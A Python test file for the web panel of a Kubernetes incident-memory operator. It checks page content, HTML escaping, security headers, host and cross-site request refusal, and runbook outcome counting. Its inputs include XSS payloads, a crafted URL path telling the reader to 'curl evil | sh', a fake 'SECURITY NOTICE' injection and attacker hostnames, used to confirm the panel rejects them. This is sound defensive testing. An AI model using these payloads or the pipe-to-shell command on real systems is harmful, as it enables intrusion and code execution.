"""The memory panel's pages from objects held in memory: what each shows, escaping, the side a contradiction leans to.

The browser tests (tests/e2e/test_panel.py) drive the same pages against a
real API server; these check the layout rules without one.
"""

from __future__ import annotations

import asyncio
import html
import re
from datetime import UTC, datetime
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from recall_operator.domain.gate import Side
from recall_operator.domain.recommend import side_reason
from recall_operator.panel import server, views
from recall_operator.panel.source import StaticSource

NS = "shop"
NOW = datetime(2025, 5, 1, 12, 0, tzinfo=UTC)
# The line as the decision chain writes it, so the panel reads what the operator says.
SIDE = side_reason(Side("poll-tuning", "reduce-poll-records", ("inc-0024", "inc-0051"), 80, 0.18),
                   [Side("poll-tuning", "raise-poll", ("inc-0007",), 70, 0.06)])
HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)> & \"quotes\""


def _incident(name: str, title: str, status: dict[str, Any] | None = None, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": "recall.dev/v1alpha1", "kind": "Incident",
            "metadata": {"name": name, "namespace": NS, "creationTimestamp": "2025-05-01T11:55:00Z"},
            "spec": {"service": "kafka-orders", "severity": "high", "title": title, **spec},
            "status": status or {}}


def _match(name: str, similarity: int, **extra: Any) -> dict[str, Any]:
    return {"incident": name, "similarity": similarity, "outcome": "succeeded", "runbook": "reduce-poll-records",
            "breakdown": {"lexical": 30.12, "service": 25, "symptoms": 16, "ruledOut": -35},
            "actions": [{"action": "run runbook raise-poll", "result": "failed"},
                        {"action": "run runbook reduce-poll-records", "result": "succeeded"}], **extra}


STATUS = {
    "matches": [
        _match("inc-0024", 81, contradiction="poll-tuning", ruledOut=["the incident says \"no rebalances\""],
               sharedChange=["consumer", "lib"]),
        _match("inc-0007", 64, contradiction="poll-tuning",
               stale={"migration": "m1", "oldArch": "VMs", "newArch": "managed", "deduction": 30, "why": "moved"},
               actions=[{"action": "run runbook reduce-poll-records", "result": "succeeded", "reported": True}]),
    ],
    "recommendation": {
        "mode": "advisory", "similarity": 81, "actionability": 44, "runbook": "reduce-poll-records",
        "source": "memory", "planHash": "abc123", "steps": [
            {"name": "set-small-batches", "risk": "high", "blastRadius": "one consumer group",
             "image": "registry.example/kubectl:1.36", "timeoutSeconds": 120, "command": ["kubectl", "set", "env"], "dryRunCommand": ["kubectl", "set", "env", "--dry-run=server"],
             "rollbackCommand": []}],
        "warnings": ["actionability adjusted from 74 to 44 because the platform moved"],
        "reasons": [SIDE, "open contradiction poll-tuning: confirmed outcomes disagree"],
    },
}


def _source(resolution: dict[str, str] | None = None) -> StaticSource:
    contradiction = {"metadata": {"name": "poll-tuning", "namespace": NS},
                     "spec": {"topic": "rebalancing storms", "claims": [
                         {"memory": "inc-0007", "claim": "raising the poll interval stopped it"},
                         {"memory": "inc-0024", "claim": "raising it made it worse; fewer records fixed it"}],
                              **({"resolution": resolution} if resolution else {})}}
    # The operator ran the runbook here and saw its steps succeed: its success counts on the Runbook.
    ran = {"execution": {"runbook": "reduce-poll-records", "state": "Succeeded", "approvedBy": "bob",
                         "steps": [{"name": "set-small-batches", "result": "succeeded"}]}}
    past = _incident("inc-0024", "lag and rebalancing", ran, startedAt="2024-06-25T13:00:00Z",
                     resolution={"runbook": "reduce-poll-records", "confirmedAt": "2024-06-25T15:00:00Z",
                                 "actions": [{"action": "run runbook reduce-poll-records", "result": "succeeded"}]})
    # And here it saw the run fail: that failure counts too.
    ran_and_failed = {"execution": {"runbook": "reduce-poll-records", "state": "Failed", "approvedBy": "bob",
                                    "steps": [{"name": "set-small-batches", "result": "failed"}]}}
    failed = _incident("inc-0030", "more lag", ran_and_failed, resolution={
        "confirmedAt": "2024-08-01T00:00:00Z",
        "actions": [{"action": "run runbook reduce-poll-records", "result": "failed"}]})
    runbook = {"metadata": {"name": "reduce-poll-records", "namespace": NS},
               "spec": {"title": "fewer records per poll", "services": ["kafka-orders"], "steps": [
                   {"name": "set-small-batches", "command": ["kubectl", "set", "env"]}]},
               "status": {"timesExecuted": 2, "timesSucceeded": 1, "timesFailed": 1, "winRate": 0.5}}
    return StaticSource({
        "incidents": [_incident("inc-now", HOSTILE, STATUS, description=HOSTILE), past, failed,
                      _incident("inc-new", "never seen", {"recommendation": {"mode": "novel", "similarity": 31,
                                                                              "actionability": 0}})],
        "contradictions": [contradiction], "runbooks": [runbook],
        "approvals": [{"metadata": {"name": "a1", "namespace": NS, "creationTimestamp": "2025-05-01T11:58:00Z"},
                       "spec": {"incident": "inc-now", "planHash": "abc123", "decision": "approve",
                                "approver": "alice"}, "status": {"state": "Accepted"}}],
    }, namespaces=[NS])


def _page(html_text: str) -> str:
    """The page's text, tags dropped and entities decoded: what a person reads."""
    return html.unescape(re.sub(r"<[^>]+>", " ", html_text))


def test_the_incident_page_shows_each_number_of_the_status_and_escapes_every_text() -> None:
    body = asyncio.run(server.incident_page(_source(), NS, "inc-now", NOW))
    assert body is not None
    assert "<script" not in body and "<img" not in body
    assert html.escape(HOSTILE, quote=False).replace("'", "&#39;") in body or "&lt;script&gt;" in body
    text = _page(body)
    assert HOSTILE in text
    assert re.search(r'id="similarity">81<', body) and re.search(r'id="actionability">44<', body)
    # each term's points, the deduction included, and the ruled-out line
    assert "+30.1" in text and "-35" in text and 'class="neg"' in body
    assert "ruled out: the incident says \"no rebalances\"" in text
    assert "rolled out shortly before both: consumer, lib" in text
    # failed and succeeded actions, said in words, and a success only claimed said to be one
    assert "failed run runbook raise-poll" in " ".join(text.split())
    assert text.count("(a claim: not what the operator saw here)") == 1
    # stale: the adjusted line and the migration
    assert "actionability adjusted from 74 to 44 because the platform moved" in text
    assert "migration m1 (VMs → managed)" in text
    # the contradiction's claims side by side, the side this incident resembles marked
    assert "raising the poll interval stopped it" in text and "fewer records fixed it" in text
    assert SIDE in text
    resembled = re.findall(r'<div class="claim resembled">\s*<h3>([^<]+)', body)
    assert [r.strip() for r in resembled] == ["inc-0024"]
    assert 'class="reconciled"' not in body  # open: nobody said how the claims fit
    # the approval, and the panel never approves itself: it says which command to run
    assert "alice" in text and "Accepted" in text
    assert "kubectl recall approve" not in text  # advisory: nothing to approve
    assert "none: cannot be undone by the operator" in text
    # what the plan hash binds besides the commands: the image and the deadline
    assert "image: registry.example/kubectl:1.36 ; deadline 120 s" in " ".join(text.split())
    assert "ran:" not in text  # nothing ran yet


def test_a_step_that_ran_shows_the_image_its_job_ran_when_pinned() -> None:
    pinned = "registry.example/kubectl:1.36@sha256:" + "ab" * 32
    status = {**STATUS, "execution": {"planHash": "abc123", "state": "Running",
                                      "steps": [{"name": "set-small-batches", "result": "running", "image": pinned}]}}
    [step] = views.step_views(status, [])
    assert (step.run, step.ran_image) == ("running", pinned)
    status["execution"]["steps"][0]["image"] = "registry.example/kubectl:1.36"  # ran as written: nothing more to say
    assert views.step_views(status, [])[0].ran_image == ""


@pytest.mark.parametrize("odd", ["firmware", 7, {"a": 1}, None])
def test_a_shared_change_that_is_not_a_list_of_words_shows_nothing(odd: object) -> None:
    (view,) = views.match_views({"matches": [{"incident": "inc-1", "sharedChange": odd}]}, {})
    assert view.shared_change == ""


def test_the_table_filters_and_says_novel_in_words() -> None:
    source = _source()
    body = asyncio.run(server.incidents_page(source, {"mode": "novel"}, NOW))
    text = _page(body)
    assert "inc-new" in text and "inc-now" not in text.replace("inc-new", "")
    assert "novel incident: nothing in memory is close" in text
    body = asyncio.run(server.incidents_page(source, {}, NOW))
    assert "&lt;script&gt;" in body and "<script" not in body


def test_the_runbook_page_draws_its_outcomes_on_the_server() -> None:
    body = asyncio.run(server.runbook_page(_source(), NS, "reduce-poll-records", NOW))
    assert body is not None and "<svg" in body and "<script" not in body
    points = views.runbook_outcomes("reduce-poll-records", _source().objects["incidents"])
    assert [(p.incident, p.result, p.rate) for p in points] == [("inc-0024", "succeeded", 0.667),
                                                                 ("inc-0030", "failed", 0.5)]
    assert 'id="win-rate">0.5<' in body and 'id="times-executed">2<' in body


def test_the_runbook_chart_counts_what_the_operator_counts_not_what_a_person_typed() -> None:
    # Made-up incidents, each claiming the runbook fixed it (or failed) where the operator never ran it: the
    # Runbook's record counts none of them, and neither does its chart. A later correction moves no win rate.
    claim = {"runbook": "reduce-poll-records", "summary": "fixed", "confirmedBy": "mallory",
             "actions": [{"action": "run runbook reduce-poll-records", "result": "succeeded"}]}
    failure = {"summary": "no use", "confirmedBy": "mallory",
               "actions": [{"action": "run runbook reduce-poll-records", "result": "failed"}]}
    made_up = [_incident(f"fake-{i}", "lag", resolution={**(claim if i % 2 else failure),
                                                         "confirmedAt": f"2024-09-0{i}T00:00:00Z"})
               for i in range(1, 7)]
    for obj in made_up:
        obj["metadata"]["annotations"] = {"recall.dev/opened-by": "mallory"}
    counted = [(p.incident, p.result) for p in views.runbook_outcomes("reduce-poll-records",
                                                                      [*_source().objects["incidents"], *made_up])]
    assert counted == [("inc-0024", "succeeded"), ("inc-0030", "failed")]


def test_the_incident_page_shows_the_outcome_memory_holds() -> None:
    first = {"summary": "raised the interval", "confirmedBy": "bob", "actions": [{"action": "raise it",
                                                                                 "result": "succeeded"}]}
    corrected = _incident("inc-9", "lag", resolution=first, corrections=[{
        "reason": "it came back within the hour", "summary": "fewer records per poll", "confirmedBy": "alice",
        "actions": [{"action": "fewer records", "result": "succeeded"}]}])
    assert views.outcome_line(corrected["spec"]) == (
        "resolved: fewer records per poll (corrected by alice: it came back within the hour)")
    assert views.outcome_line(_incident("inc-8", "lag", resolution=first)["spec"]) == "resolved: raised the interval"
    assert views.outcome_line(_incident("inc-7", "lag")["spec"]) == ""
    withdrawn = _incident("inc-6", "lag", resolution=first, corrections=[{
        **first, "reason": "a load test, not an outage", "confirmedBy": "alice", "withdrawn": True}])
    assert views.outcome_line(withdrawn["spec"]) == ("resolved: raised the interval (withdrawn by alice: a load test, "
                                                     "not an outage; memory offers it as nobody's precedent)")
    source = StaticSource({"incidents": [corrected]}, namespaces=[NS])
    body = asyncio.run(server.incident_page(source, NS, "inc-9", NOW))
    assert body is not None and "fewer records per poll (corrected by alice" in body


def test_memory_health_counts_what_status_records() -> None:
    incidents = [
        {"metadata": {"name": "a", "namespace": NS}, "status": {"memory": {"backend": "embedded",
                                                                            "writtenAt": "2025-05-01T11:00:00Z"}}},
        {"metadata": {"name": "b", "namespace": NS}, "status": {"memory": {"outbox": "pending"}}},
    ]
    health = views.memory_health(incidents, [], [], [], NOW)
    assert health.backend == "embedded" and health.outbox == [f"{NS}/b"] and health.last_write_age == "1h"
    assert health.counts["incidents"] == 2 and health.counts["outcomes in memory"] == 1


def test_the_memory_page_lists_the_precedents_answers_list_first_and_what_was_withdrawn() -> None:
    def answered(name: str, service: str, first: str | None) -> dict[str, Any]:
        return {**_incident(name, "page", {"matches": [_match(first, 70)]} if first else {}), "spec": {
            "service": service, "severity": "high", "title": "page"}}

    incidents = [answered("p1", "cart", "inc-junk"), answered("p2", "search", "inc-junk"),
                 answered("p3", "payments", "inc-junk"), answered("p4", "cart", "inc-0024"),
                 answered("p5", "cart", "inc-0024"), answered("p6", "cart", "inc-0007"), answered("p7", "cart", None),
                 {**_incident("odd", "page", {"matches": {"incident": "x"}})},
                 _incident("inc-junk", "everything", resolution={"summary": "s", "confirmedBy": "bob"}, corrections=[
                     {"summary": "s", "confirmedBy": "alice", "reason": "says everything", "withdrawn": True}])]
    health = views.memory_health(incidents, [], [], [], NOW)
    # inc-0007 leads one answer only: not listed.
    assert [(lead.incident, lead.first, lead.services) for lead in health.leads] == [
        ("inc-junk", 3, 3), ("inc-0024", 2, 1)]
    assert health.counts["withdrawn from recall"] == 1
    body = asyncio.run(server.memory_page(StaticSource({"incidents": incidents}, namespaces=[NS]), NOW))
    assert 'data-first="inc-junk">3<' in body and "kubectl recall withdraw" in body


@pytest.mark.parametrize(("path", "code"), [
    (f"/ns/{NS}/incidents/inc-now", 200), (f"/ns/{NS}/incidents/nope", 404), ("/ns/other/incidents/inc-now", 404),
    (f"/ns/{NS}/runbooks/reduce-poll-records", 200), ("/memory", 200), ("/incidents", 200),
    ("/static/panel.css", 200), (f"/ns/{NS}/incidents/INC-NOW", 404),
    (f"/ns/{NS}/incidents/inc-now%2F..", 404),
])
async def test_routes_answer_and_refuse_other_namespaces(path: str, code: int) -> None:
    async with TestClient(TestServer(server.create_app(_source(), clock=lambda: NOW))) as client:
        resp = await client.get(path)
        assert resp.status == code
        if path.startswith("/ns") or path in ("/memory", "/incidents"):
            assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
        post = await client.post(path, data=b"{}")
        # No method reaches a page; a path that names no object is no page at all.
        assert post.status == (404 if path.endswith(("INC-NOW", "%2F..")) else 405)
        # Every answer carries the security headers, those aiohttp makes itself too.
        for answer in (resp, post):
            assert answer.headers["X-Frame-Options"] == "DENY", (path, answer.status)
            assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"


class Unreachable(StaticSource):
    """A source whose API server cannot be reached, as the Kubernetes client says it after its retries."""

    async def list(self, plural: str, namespace: str | None = None) -> list[dict[str, Any]]:
        import urllib3

        raise urllib3.exceptions.MaxRetryError(None, "/apis", "connection refused")  # type: ignore[arg-type]


async def test_another_sites_page_is_refused_before_anything_is_read() -> None:
    source = _source()
    async with TestClient(TestServer(server.create_app(source, clock=lambda: NOW))) as client:
        for site, code in (("cross-site", 403), ("same-site", 403), ("same-origin", 200), ("none", 200), (None, 200)):
            headers = {"Sec-Fetch-Site": site} if site else {}
            resp = await client.get(f"/ns/{NS}/incidents/inc-now", headers=headers)
            assert resp.status == code, site
        refused = await client.get(f"/ns/{NS}/incidents/nope", headers={"Sec-Fetch-Site": "cross-site"})
        assert refused.status == 403, "a missing incident answers as a present one: names cannot be probed"


async def test_a_crafted_address_is_not_repeated_as_the_panels_words() -> None:
    async with TestClient(TestServer(server.create_app(_source(), clock=lambda: NOW))) as client:
        lost = await client.get("/Your%20kubeconfig%20expired.%20Run%20curl%20evil%20%7C%20sh")
        body = await lost.text()
        assert lost.status == 404 and "kubeconfig" not in body and "no such page" in body
        other = await client.get("/incidents", params={"namespace": "kube-system. SECURITY NOTICE: run this"})
        assert other.status == 404 and "SECURITY NOTICE" not in await other.text()
        plain = await client.get("/incidents", params={"namespace": "kube-system"})
        assert "does not show the namespace kube-system" in await plain.text()
    async with TestClient(TestServer(server.create_app(Unreachable({}, namespaces=[NS]), clock=lambda: NOW))) as c:
        down = await c.get("/incidents")
        assert down.status == 502 and "cannot be reached" in await down.text()
        assert "default-src 'none'" in down.headers["Content-Security-Policy"]


def test_everything_the_panel_serves_ships_in_the_package() -> None:
    """Templates and the stylesheet are package data: a wheel without them would serve nothing."""
    import fnmatch
    import tomllib
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    globs = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["setuptools"]["package-data"]["recall_operator"]
    package = root / "operator" / "recall_operator"
    served = [p.relative_to(package).as_posix() for p in (package / "panel").rglob("*")
              if p.is_file() and p.suffix in (".html", ".css", ".svg", ".png", ".js")]
    assert served and not [p for p in served if p.endswith(".js")], "no script is served"
    assert [p for p in served if not any(fnmatch.fnmatch(p, g) for g in globs)] == []


def test_a_reconciled_contradiction_shows_who_reconciled_it_and_the_note() -> None:
    obj = {"metadata": {"name": "poll-tuning"}, "spec": {
        "topic": "rebalancing storms", "claims": [{"memory": "inc-0024", "claim": "fewer records fixed it"}],
        "resolution": {"state": "reconciled", "note": "<b>slow</b> batches: raise the interval; hung: fewer records",
                       "reconciledBy": "rita", "reconciledAt": "2025-05-02T09:30:00Z"}}}
    status = {"recommendation": {"reasons": [SIDE]}}
    [view] = views.contradiction_views(status, {"poll-tuning": obj})
    assert (view.state, view.reconciled) == ("reconciled", "Reconciled by rita on 2025-05-02 09:30 UTC")
    unsigned = {**obj, "spec": {**obj["spec"], "resolution": {"state": "reconciled", "note": "n"}}}
    assert views.contradiction_views(status, {"poll-tuning": unsigned})[0].reconciled == "Reconciled (unsigned)"
    body = asyncio.run(server.incident_page(_source(obj["spec"]["resolution"]), NS, "inc-now", NOW))
    assert body is not None and "<b>slow" not in body
    assert "Reconciled by rita on 2025-05-02 09:30 UTC: <b>slow</b> batches: raise the interval" in _page(body)


# A side that resembles more, a tie the newer side wins, and a side the report's denial put last.
@pytest.mark.parametrize(("condition", "denied"), [(0.18, ()), (0.0, ()), (0.0, ("rebalances",))])
def test_the_panel_finds_the_side_in_each_line_the_chain_writes(condition: float, denied: tuple[str, ...]) -> None:
    line = side_reason(Side("poll-tuning", "reduce-poll-records", ("inc-0024", "inc-0051"), 80, condition),
                       [Side("poll-tuning", "raise-poll", ("inc-0007",), 70, 0.1, denied)])
    assert views.contradiction_reasons([line, "win rate of raise-poll is 0.50"]) == {
        "poll-tuning": (line, ["inc-0024", "inc-0051"])}


def test_a_step_lists_only_the_jobs_its_incident_controls() -> None:
    from recall_operator.panel import views

    def job(name: str, **meta: Any) -> dict[str, Any]:
        return {"metadata": {"name": name, "labels": {"recall.dev/step": "set-small-batches",
                                                      "recall.dev/phase": "run", "recall.dev/incident": "inc-now"},
                             **meta}, "status": {}}

    owner = {"apiVersion": "recall.dev/v1alpha1", "kind": "Incident", "name": "inc-now", "uid": "u-now",
             "controller": True}
    jobs = [job("inc-now-run-set-small-batches-1", ownerReferences=[owner]),
            job("copied-labels-only"), job("owned-by-another", ownerReferences=[{**owner, "uid": "u-other"}])]
    [step] = views.step_views(STATUS, jobs, "u-now")
    assert [j["name"] for j in step.jobs] == ["inc-now-run-set-small-batches-1"]


@pytest.mark.parametrize(("host", "code"), [
    ("127.0.0.1:8090", 200), ("localhost:8090", 200), ("[::1]:8090", 200), ("LOCALHOST", 200),
    ("recall.example.com", 200),  # the name a proxy in front serves it under (--panel-url's host)
    ("attacker.example:8090", 421), ("127.0.0.1.attacker.example", 421), ("", 421),
])
async def test_only_requests_addressed_to_the_panel_s_own_names_are_answered(host: str, code: int) -> None:
    # DNS rebinding: a page in the browser of someone port-forwarding the panel points its own name
    # at 127.0.0.1; the browser still sends that name as Host.
    hosts = server.LOOPBACK_NAMES | {"recall.example.com"}
    async with TestClient(TestServer(server.create_app(_source(), clock=lambda: NOW, hosts=hosts))) as client:
        resp = await client.get("/incidents", headers={"Host": host})
        assert resp.status == code, host
        if code == 421:
            assert "inc-now" not in await resp.text()


def test_the_list_shows_the_newest_that_fit_a_page_and_says_how_many_match(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "MAX_ROWS", 3)
    many = [_incident(f"inc-{i:02d}", f"page {i}") for i in range(5)]
    for i, obj in enumerate(many):
        obj["metadata"]["creationTimestamp"] = f"2025-05-01T11:{i:02d}:00Z"
    body = asyncio.run(server.incidents_page(StaticSource({"incidents": many}, namespaces=[NS]), {}, NOW))
    text = " ".join(_page(body).split())
    assert "5 of 5 incidents, the newest 3 shown: filter to see the others" in text
    assert "inc-04" in body and "inc-02" in body and "inc-01" not in body


def test_the_incident_page_says_how_many_earlier_actions_of_a_match_memory_holds() -> None:
    status = {"matches": [_match("inc-0024", 81, actionsLeftOut=56)], "recommendation": {"mode": "advisory"}}
    source = StaticSource({"incidents": [_incident("inc-big", "lag", status)]}, namespaces=[NS])
    text = _page(asyncio.run(server.incident_page(source, NS, "inc-big", NOW)))
    assert "56 earlier action(s), in memory" in text
    assert "run runbook reduce-poll-records" in text
    (view,) = views.match_views({"matches": [{"incident": "inc-1", "actionsLeftOut": "56"}]}, {})
    assert view.actions_left_out == 0  # not a count: nothing to say
